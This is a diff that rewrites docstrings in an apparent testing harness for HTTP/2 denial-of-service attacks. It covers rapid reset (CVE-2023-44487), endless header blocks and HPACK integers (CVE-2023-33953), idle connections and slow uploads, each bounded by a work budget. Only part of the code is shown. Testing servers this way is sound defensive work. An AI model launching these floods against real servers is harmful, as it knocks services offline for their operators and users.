@@ -1,5 +1,6 @@
-"""Attacks on an HTTP/2 server, as raw frames over sockets. Each does a bounded amount of work, on as many connections as the server
-makes it use, and returns how many it used. `connect` gives a new socket on which the preface has been sent."""
+"""Attacks on an HTTP/2 server, as raw frames over sockets. Each attack does a bounded amount of work. An attack that
+the server cuts off continues on a new connection, and returns the number of connections it used.
+"""
 import select
 import socket
 import ssl
@@ -19,7 +20,9 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def literal(name, value):
-    """A header as HPACK writes it without an index and without Huffman's code; both shorter than 127 bytes."""
+    """Returns a header in HPACK without index and without Huffman coding; name and value must be shorter than 127
+    bytes.
+    """
     return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
 
 
@@ -30,7 +33,9 @@ def request(path, *more):
 
 
 class Door:
-    """Where the attacks go: host, port, the address that they come from, and a certificate, if there is TLS."""
+    """Target of the attacks: host, port, source address, and a certificate if TLS is used. `connect` returns a new
+    socket on which the preface has been sent.
+    """
 
     def __init__(self, port, source="127.0.0.2", files=None):
         self.port, self.source, self.files = port, source, files
@@ -54,7 +59,7 @@ class Door:
 
 
 def swallow(connection):
-    """Reads what there is, so that the server can write; False: it has closed."""
+    """Reads all available data so that the server can write; returns false if the server has closed the connection."""
     while True:
         pending = isinstance(connection, ssl.SSLSocket) and connection.pending()
         if not pending and not select.select([connection], [], [], 0)[0]:
@@ -64,7 +69,9 @@ def swallow(connection):
 
 
 def pour(door, pieces):
-    """Sends all pieces, each of (first piece of a connection?) -> bytes or None for the end, over one connection after another."""
+    """Sends the pieces of an attack over one connection after another, and returns the number of connections. `pieces`
+    is called for each new connection and yields bytes. The attack ends when a connection accepts all its pieces.
+    """
     connections, left = 0, True
     while left:
         connections += 1
@@ -86,7 +93,7 @@ def pour(door, pieces):
 
 
 class Budget:
-    """Work that is left over all connections."""
+    """Remaining work of an attack, over all connections."""
 
     def __init__(self, amount):
         self.left = amount
@@ -98,7 +105,7 @@ class Budget:
 
 
 def rapid_reset(door, streams):
-    """CVE-2023-44487: calls that are reset as soon as they begin."""
+    """CVE-2023-44487: sends calls and resets them at once."""
     budget, block = Budget(streams), request(LIST)
 
     def pieces():
@@ -112,7 +119,7 @@ def rapid_reset(door, streams):
 
 
 def endless_headers(door, megabytes):
-    """CVE-2023-33953: a header block of small headers that never ends."""
+    """CVE-2023-33953: sends a header block of small headers that never ends."""
     budget = Budget(megabytes * 64)
     small = b"".join(literal(f"h{i:03d}", "v") for i in range(1000))
 
@@ -125,7 +132,7 @@ def endless_headers(door, megabytes):
 
 
 def endless_integers(door, megabytes):
-    """CVE-2023-33953: the length of a header as an integer that never ends."""
+    """CVE-2023-33953: sends the length of a header as an integer that never ends."""
     budget = Budget(megabytes * 64)
 
     def pieces():
@@ -137,18 +144,20 @@ def endless_integers(door, megabytes):
 
 
 def idle(door, count, greet=False):
-    """Connections that do nothing; they are closed by whoever gets them. `greet`: after the handshake."""
+    """Opens connections that send nothing; the caller closes them. `greet`: the connections complete the handshake
+    first.
+    """
     held = []
     for _ in range(count):
         try:
             held.append(door.connect() if greet else door.tcp())
         except OSError:
-            continue  # the server takes no more
+            continue  # the server accepts no more connections
     return held
 
 
 def slow_uploads(door, count):
-    """Uploads that begin and go on by nothing, all on one connection; it is closed by whoever gets it."""
+    """Starts uploads that stop after their first byte, all on one connection; the caller closes it."""
     connection = door.connect()
     message = struct.pack(">BI", 0, 1000)
     for i in range(count):
